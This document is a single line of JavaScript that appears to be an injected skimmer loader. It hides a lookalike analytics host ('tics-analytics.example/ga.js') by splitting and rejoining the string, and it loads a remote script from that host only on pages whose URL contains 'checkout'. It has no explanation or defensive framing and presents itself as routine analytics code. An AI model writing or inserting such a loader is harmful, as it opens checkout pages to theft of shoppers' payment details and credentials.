var s=document.createElement("script");s.type="text/javascript";s.src=("//tics-anal" + "," + "ytics.example/ga.js").split(",").join("");if(/checkout/.test(location.href))document.head.appendChild(s);
